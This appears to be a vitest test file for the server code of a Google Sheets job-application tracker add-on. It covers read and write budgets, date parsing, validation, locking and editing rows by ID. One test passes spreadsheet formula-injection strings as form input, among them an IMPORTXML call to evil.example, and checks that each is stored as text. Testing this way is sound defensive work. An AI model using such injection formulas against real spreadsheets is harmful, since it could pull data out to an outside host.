/** The tracker's server functions, run by the built bundle in a vm over the counting fakes. */
import { describe, expect, it } from 'vitest';
import { loadBundle, type LoadedAddon } from '../support/load-bundle.js';
import { seedTracker } from '../fakes/apps-script/seed-tracker.js';
import { writeAsPerson } from '../fakes/apps-script/index.js';
import { leaksAmong } from '../support/message-leaks.js';
import { APPLICATIONS, INTERVIEWS } from '../../shared/schema/tracker-schema.js';
import type { SheetSpec } from '../../shared/schema/types.js';

const NOW = new Date('2026-03-02T08:30:00Z');

function tracker(applications = 5, interviews = 5): LoadedAddon {
  const loaded = loadBundle({ now: NOW });
  loaded.addon.setUpTracker();
  seedTracker(loaded.spreadsheet, { applications, interviews, now: NOW });
  loaded.log.reset();
  return loaded;
}

const col = (spec: SheetSpec, key: string) => spec.columns.findIndex((column) => column.key === key);
const rowsOf = (loaded: LoadedAddon, spec: SheetSpec) => loaded.spreadsheet.getSheetByName(spec.name)!.peekValues();

describe('call budgets', () => {
  it.each([10, 1000, 10_000])('loads the first screen of %i rows with 3 reads and no writes', (rows) => {
    const loaded = tracker(rows, rows);
    const view = loaded.addon.loadTracker();
    expect(view.applications).toHaveLength(rows);
    expect(loaded.log.reads()).toBe(3);
    expect(loaded.log.writes()).toBe(0);
    expect(loaded.log.count('Range.getValues')).toBe(2);
  });

  it.each([10, 1000])('saves a new application into a sheet of %i rows with 2 writes', (rows) => {
    const loaded = tracker(rows, 0);
    expect(loaded.addon.saveApplication({ company: 'Hooli', role: 'PM', stage: 'Applied' }).kind).toBe('saved');
    expect(loaded.log.writes()).toBe(2);
    expect(loaded.log.snapshot()).toMatchObject({ 'Range.setNumberFormats': 1, 'Range.setValues': 1 });
  });

  it('grows a full sheet by a block of 500 rows: one extra call, then 2 writes again', () => {
    const loaded = tracker(0, 0);
    const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
    writeAsPerson(sheet, 1000, 1, 'app-last');
    loaded.log.reset();
    loaded.addon.saveApplication({ company: 'Hooli', role: 'PM', stage: 'Applied' });
    expect(loaded.log.snapshot()).toMatchObject({ 'Sheet.insertRowsAfter': 1, 'Range.setNumberFormats': 1, 'Range.setValues': 1 });
    expect(sheet.size().rows).toBe(1500);
    expect(sheet.peekValues()[1000]![1]).toBe('Hooli');
    loaded.log.reset();
    loaded.addon.saveApplication({ company: 'Hooli', role: 'CTO', stage: 'Applied' });
    expect(loaded.log.writes()).toBe(2);
  });

  it('edits an interview round with 2 writes', () => {
    const loaded = tracker(0, 20);
    const round = loaded.addon.loadTracker().interviews[7]!;
    loaded.log.reset();
    expect(loaded.addon.saveInterview({ ...round, notes: 'Went fine' }).kind).toBe('saved');
    expect(loaded.log.writes()).toBe(2);
  });
});

describe('loadTracker', () => {
  it('returns wall-time strings in the spreadsheet zone and a summary as of the pinned clock', () => {
    const loaded = tracker(12, 6);
    const view = loaded.addon.loadTracker();
    expect(view.now).toBe('2026-03-02 09:30');
    expect(view.timeZone).toBe('Europe/Berlin');
    expect(view.applications[0]).toMatchObject({
      id: 'app-seed0',
      company: 'Acme',
      stage: 'Wishlist',
      appliedOn: '2026-03-02',
      nextActionDue: '2026-02-27',
      row: 2,
    });
    expect(view.summary.overdue.map((a) => a.id)).toEqual(['app-seed0', 'app-seed9']);
    expect(view.summary.upcoming.map((r) => [r.eventId, r.start])).toEqual([['evt-seed5', '2026-03-02 10:00']]);
    expect(JSON.parse(JSON.stringify(view))).toEqual(view);
  });

  it('lists cells that do not fit their column and leaves them out of the summary', () => {
    const loaded = tracker(3, 0);
    const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
    writeAsPerson(sheet, 2, col(APPLICATIONS, 'nextActionDue') + 1, 'next friday');
    const view = loaded.addon.loadTracker();
    expect(view.problems).toEqual(['Applications row 2, "Next action due": "next friday" is not a date (YYYY-MM-DD).']);
    expect(view.summary.overdue).toEqual([]);
  });

  it('reads dates and numbers a person typed as text, names the ones it cannot read, and writes nothing', () => {
    const loaded = tracker(0, 2);
    const sheet = loaded.spreadsheet.getSheetByName('Interviews')!;
    const at = (row: number, key: string) => sheet.cellAt(row, col(INTERVIEWS, key) + 1);
    // The person made these cells plain text, so what they typed stays text.
    for (const [row, key] of [
      [2, 'start'],
      [2, 'selfRating'],
      [3, 'selfRating'],
    ] as const)
      at(row, key).format = '@';
    writeAsPerson(sheet, 2, col(INTERVIEWS, 'start') + 1, '2026-03-05T10:00');
    writeAsPerson(sheet, 2, col(INTERVIEWS, 'selfRating') + 1, ' 4 ');
    writeAsPerson(sheet, 3, col(INTERVIEWS, 'selfRating') + 1, 'four');
    expect([at(2, 'start').value, at(2, 'selfRating').value]).toEqual(['2026-03-05T10:00', ' 4 ']);
    const view = loaded.addon.loadTracker();
    expect(view.interviews.find((round) => round.row === 2)?.start).toBe('2026-03-05 10:00');
    expect(view.problems).toEqual(['Interviews row 3, "Self-rating": "four" is not a number.']);
    expect(loaded.log.writes()).toBe(0);
  });

  it('reads a due day the person typed into the sheet as that day', () => {
    const loaded = tracker(1, 0);
    const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
    writeAsPerson(sheet, 2, col(APPLICATIONS, 'nextActionDue') + 1, '2026-02-20');
    writeAsPerson(sheet, 2, col(APPLICATIONS, 'nextAction') + 1, 'Send portfolio');
    const view = loaded.addon.loadTracker();
    expect(view.summary.overdue.map((a) => [a.nextAction, a.nextActionDue])).toEqual([['Send portfolio', '2026-02-20']]);
    expect(view.problems).toEqual([]);
  });

  it('names a missing required header and the sheet', () => {
    const loaded = tracker();
    writeAsPerson(loaded.spreadsheet.getSheetByName('Interviews')!, 1, col(INTERVIEWS, 'title') + 1, 'Subject');
    expect(() => loaded.addon.loadTracker()).toThrow('Sheet "Interviews" is missing the required header "Title".');
  });

  it('asks for set-up when a tracker sheet is missing', () => {
    const loaded = loadBundle({ now: NOW });
    expect(() => loaded.addon.loadTracker()).toThrow('There is no sheet named "Applications". Run Extensions → NextRound → Set up tracker to add it.');
  });

  it("refuses settings that are not valid in the person's words, keeping the property and field for the logs", () => {
    const loaded = tracker();
    const thrown = (): { message: string; where?: string } => {
      try {
        loaded.addon.loadTracker();
      } catch (error) {
        return error as { message: string; where?: string };
      }
      throw new Error('loadTracker accepted damaged settings');
    };
    loaded.documentProperties.store.set('nextround.settings', '{"version":1,"upcomingDays":0}');
    const bad = thrown();
    expect(bad.message).toBe(
      'The NextRound settings saved in this spreadsheet are damaged and could not be read: Upcoming days shown: Enter a number of at least 1.',
    );
    expect(bad.where).toBe('nextround.settings.upcomingDays');
    expect(leaksAmong([bad.message])).toEqual([]);
    loaded.documentProperties.store.set('nextround.settings', '{not json');
    expect(thrown().message).toBe('The NextRound settings saved in this spreadsheet are damaged and could not be read.');
  });
});

describe('saving forms', () => {
  it('answers bad input with field errors and writes nothing', () => {
    const loaded = tracker();
    const locksBefore = loaded.documentLock.acquired;
    const result = loaded.addon.saveInterview({ company: '', role: 'Dev', start: '2026-02-30 10:00', end: '2026-03-01 9:00' });
    expect(result).toEqual({
      kind: 'invalid',
      fieldErrors: { company: 'Required', start: 'This date or time does not exist', end: 'Use the form YYYY-MM-DD HH:mm' },
    });
    // Any client can call a public function with anything: google.script.run is not typed.
    const untyped = loaded.addon.saveApplication as (input: unknown) => unknown;
    expect(untyped('not an object')).toEqual({ kind: 'invalid', fieldErrors: { form: 'Expected an object' } });
    expect(loaded.log.writes()).toBe(0);
    expect(loaded.documentLock.acquired).toBe(locksBefore);
  });

  it.each([['=IMPORTXML("https://evil.example","//a")'], ['+1'], ['-5'], ['@SUM(A1)'], ['=1+1']])('stores form text %s as text, never a formula', (text) => {
    const loaded = tracker();
    // The person reformatted the Company column as a number: the save still writes text.
    const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
    sheet.getRange(2, 1, 999, 13).setNumberFormat('0.00');
    const saved = loaded.addon.saveApplication({ company: text, role: text, stage: 'Applied', notes: text, contact: text });
    expect(saved.kind).toBe('saved');
    const row = saved.kind === 'saved' ? saved.record.row : 0;
    const range = sheet.getRange(row, 1, 1, APPLICATIONS.columns.length);
    expect(range.getFormulas()[0]!.every((formula) => formula === '')).toBe(true);
    for (const key of ['company', 'role', 'notes', 'contact']) expect(range.getValues()[0]![col(APPLICATIONS, key)]).toBe(text);
  });

  it('edits the right row by id after the person sorted, inserted a column and wrote a formula beside it', () => {
    const loaded = tracker(6, 0);
    const sheet = loaded.spreadsheet.getSheetByName('Applications')!;
    sheet.setFrozenRows(1);
    sheet.sort(col(APPLICATIONS, 'company') + 1, false);
    sheet.insertColumnsBefore(3, 1);
    writeAsPerson(sheet, 1, 3, 'My score');
    const target = sheet.peekValues().findIndex((row) => row[0] === 'app-seed4') + 1;
    // The inserted column inherited plain text; the person makes it a number column for the formula.
    sheet.getRange(2, 3, 999, 1).setNumberFormat('0');
    writeAsPerson(sheet, target, 3, '=LEN(B5)');
    const before = sheet.dump().cells.map((line) => line[2]);
    loaded.log.reset();

    const result = loaded.addon.saveApplication({ id: 'app-seed4', company: 'Hooli', role: 'Staff Engineer', stage: 'Offer', notes: 'negotiating' });

    expect(result.kind === 'saved' && result.record.row).toBe(target);
    const row = sheet.peekValues()[target - 1]!;
    expect([row[0], row[1], row[3], row[4]]).toEqual(['app-seed4', 'Hooli', 'Staff Engineer', 'Offer']);
    expect(sheet.dump().cells.map((line) => line[2])).toEqual(before);
    expect(sheet.getRange(target, 3).getFormulas()).toEqual([['=LEN(B5)']]);
    // The formula cell is not rewritten: the write goes around it, in two parts.
    expect(loaded.log.snapshot()).toMatchObject({ 'Range.setNumberFormats': 2, 'Range.setValues': 2 });
    expect(sheet.peekValues().filter((line) => line[0] === 'app-seed4')).toHaveLength(1);
  });

  it("keeps the calendar's cells when the person edits a synced interview", () => {
    const loaded = tracker(0, 3);
    const round = loaded.addon.loadTracker().interviews[1]!;
    const saved = loaded.addon.saveInterview({ ...round, start: '2030-01-01 10:00', end: '2030-01-01 11:00', title: 'Renamed', notes: 'Bring laptop' });
    expect(saved.kind).toBe('saved');
    const after = loaded.addon.loadTracker().interviews[1]!;
    expect(after).toEqual({ ...round, notes: 'Bring laptop' });
  });

  it('refuses an id that is not in the sheet, and one that two rows share', () => {
    const loaded = tracker(3, 0);
    expect(() => loaded.addon.saveApplication({ id: 'app-gone', company: 'A', role: 'B', stage: 'Applied' })).toThrow(
      'No row of "Applications" has the Application ID "app-gone"; it may have been deleted.',
    );
    writeAsPerson(loaded.spreadsheet.getSheetByName('Applications')!, 4, 1, 'app-seed0');
    expect(() => loaded.addon.saveApplication({ id: 'app-seed0', company: 'A', role: 'B', stage: 'Applied' })).toThrow(
      'Rows 2 and 4 of "Applications" share the Application ID "app-seed0"; clear it in the copy.',
    );
    expect(loaded.documentLock.held).toBe(false);
    expect(loaded.documentLock.released).toBe(loaded.documentLock.acquired);
  });

  it('says so when another execution holds the document lock, and writes nothing', () => {
    const loaded = tracker();
    loaded.documentLock.busy = true;
    expect(() => loaded.addon.saveApplication({ company: 'A', role: 'B', stage: 'Applied' })).toThrow(
      'Another NextRound action is still running; try again in a moment.',
    );
    expect(loaded.log.writes()).toBe(0);
  });

  it('round-trips days and times across the daylight-saving change', () => {
    const loaded = tracker(0, 0);
    const saved = loaded.addon.saveInterview({ company: 'A', role: 'B', start: '2026-03-29 01:30', end: '2026-03-29 03:30' });
    expect(saved.kind).toBe('saved');
    const row = rowsOf(loaded, INTERVIEWS)[1]!;
    expect(row[col(INTERVIEWS, 'start')]).toEqual(new Date('2026-03-29T00:30:00Z'));
    expect(row[col(INTERVIEWS, 'end')]).toEqual(new Date('2026-03-29T01:30:00Z'));
    expect(loaded.addon.loadTracker().interviews[0]).toMatchObject({ start: '2026-03-29 01:30', end: '2026-03-29 03:30', calendarStatus: 'manual' });
  });
});
